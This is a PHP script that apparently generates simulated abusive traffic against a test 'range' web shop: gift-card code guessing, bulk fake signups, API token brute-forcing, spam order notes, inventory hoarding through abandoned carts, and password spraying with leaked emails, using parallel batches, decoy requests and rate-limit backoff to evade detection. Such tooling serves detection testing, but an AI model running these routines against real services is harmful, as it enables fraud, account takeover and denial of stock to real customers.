<?php
// Abusive clients of the range in PHP; the first argument says which. Batches of parallel calls (curl_multi), as PHP does it.
require __DIR__ . '/seat.php';

const RUN = [
    'giftcards' => [40, 700], 'accounts' => [20, 200], 'tokens' => [40, 700], 'spam' => [25, 250], 'inventory' => [30, 350],
    'spraying' => [40, 450],
];
$name = $argv[1] ?? '';
$seat = new Seat(...RUN[$name]);
$seat->dress();
if ($seat->is('browser')) $seat->call('GET', '/');
$name($seat);
$seat->tell();

/** Several calls at once; each is [method, path, body, as, headers]. @return int[] statuses */
function batch(Seat $seat, array $calls): array
{
    $multi = curl_multi_init();
    $handles = [];
    foreach ($calls as [$method, $path, $body, $as, $headers]) {
        $curl = curl_init();
        $seat->prepare($curl, $method, $path, $body, $as, $headers);
        curl_multi_add_handle($multi, $curl);
        $handles[] = $curl;
    }
    do {
        curl_multi_exec($multi, $running);
        if ($running) curl_multi_select($multi, 1.0);
    } while ($running);
    $statuses = array_map(fn ($curl) => (int) curl_getinfo($curl, CURLINFO_RESPONSE_CODE), $handles);
    array_map($seat->settle(...), $statuses);
    curl_multi_close($multi);
    return $statuses;
}

/** With form `decoy`, something harmless in between. */
function decoy(Seat $seat): void
{
    if (!$seat->is('decoy')) return;
    $seat->breathe();
    $search = $seat->at('search') . '?q=' . $seat->pick(['desk', 'rug']);
    $seat->call('GET', $seat->pick(['/', '/contact', $seat->at('products') . '?limit=10', $search]), null, '');
}

/** Draws calls and sends them by one or by several until enough are made. */
function each(Seat $seat, callable $draw, ?callable $after = null): void
{
    $width = $seat->is('jitter') ? 1 : $seat->pick([1, 1, 4, 8]);
    while (!$seat->isOver()) {
        $statuses = batch($seat, array_map(fn () => $draw(), range(1, $width)));
        if ($after) $after($statuses);
        elseif (in_array(429, $statuses, true)) $seat->pause($seat->real(0.5, 3));
        decoy($seat);
        $seat->breathe();
    }
}

function giftcards(Seat $seat): void
{
    $letters = str_split('ABCDEFGHJKLMNPQRSTUVWXYZ23456789');
    $code = fn (int $n) => implode('', array_map(fn () => $seat->pick($letters), range(1, $n)));
    $stem = $seat->chance(0.5) ? $code(5) : '';
    each($seat, fn () => ['GET', $seat->at('giftcard', $stem . $code(10 - strlen($stem))), null, null, []]);
}

function accounts(Seat $seat): void
{
    $domain = $seat->pick(['trashbox.example', 'mailnull.example', 'fastbox.example']);
    each($seat, function () use ($seat, $domain) {
        $email = $seat->pick(['a', 'x', 'lucky', 'win']) . $seat->hex(8) . "@$domain";
        $person = ucfirst($seat->pick(['li', 'tom', 'ana'])) . ' ' . ucfirst($seat->hex(5));
        $body = ['email' => $email, 'password' => 'Qwerty!' . $seat->hex(4), 'name' => $person];
        return ['POST', $seat->at('signup'), $body, '', []];
    });
}

function tokens(Seat $seat): void
{
    $doors = array_map($seat->at(...), $seat->chance(0.5) ? ['me'] : ['me', 'orders', 'customers']);
    $isHeader = $seat->chance(0.4);
    $draw = fn () => $isHeader ? 'pk_' . $seat->hex(24) : $seat->hex($seat->pick([32, 40]));
    each($seat, function () use ($seat, $doors, $isHeader, $draw) {
        $token = $draw();
        return ['GET', $seat->pick($doors), null, $isHeader ? '' : $token, $isHeader ? ['X-Api-Key' => $token] : []];
    });
}

function spam(Seat $seat): void
{
    if ($seat->token === null) $seat->login();
    [, $products] = $seat->insist('GET', $seat->at('products') . '?limit=20');
    $ids = array_column($products['items'] ?? [], 'id') ?: ['1'];
    $texts = ['Best loans now', 'Hot singles', '1000% bonus', 'SEO for your site', 'Replica bags'];
    $draw = fn () => ['POST', $seat->at('orders'), ['items' => [['productId' => (string) $seat->pick($ids), 'qty' => 1]],
        'note' => $seat->pick($texts) . ' https://' . $seat->hex(6) . '.example'], null, []];
    each($seat, $draw, function (array $statuses) use ($seat) {
        if (in_array(401, $statuses, true) && !$seat->is('key')) $seat->login();
        if (in_array(429, $statuses, true)) $seat->pause(2);
    });
}

/** Takes one thing out of stock by cart after cart, and lets the carts stand. */
function inventory(Seat $seat): void
{
    [, $products] = $seat->insist('GET', $seat->at('products') . '?limit=50');
    $ids = array_column($products['items'] ?? [], 'id') ?: ['1'];
    $wanted = array_map(fn () => (string) $seat->pick($ids), range(1, $seat->int(1, 8)));
    while (!$seat->isOver()) {
        [, $cart] = $seat->call('POST', $seat->at('cart'), []);
        foreach ($wanted as $id) {
            if ($seat->isOver() || !isset($cart['id'])) break;
            $seat->call('POST', $seat->at('cartItems', $cart['id']), ['productId' => $id, 'qty' => $seat->int(1, 30)]);
            $seat->breathe();
        }
        decoy($seat);
        $seat->pause($seat->log(0.05, 2));
    }
}

/** Few passwords over many names, a round for each password. */
function spraying(Seat $seat): void
{
    $emails = array_map(fn ($line) => explode(':', $line)[0], $seat->lines('RANGE_LEAKED'));
    shuffle($emails);
    $emails = array_slice($emails, 0, $seat->int(20, 200));
    $passwords = $seat->lines('RANGE_PASSWORDS');
    $n = 0;
    each($seat, function () use ($seat, $emails, $passwords, &$n) {
        $body = ['email' => $emails[$n % count($emails)], 'password' => $passwords[intdiv($n, count($emails)) % count($passwords)]];
        $n++;
        return ['POST', $seat->at('login'), $body, '', []];
    });
}
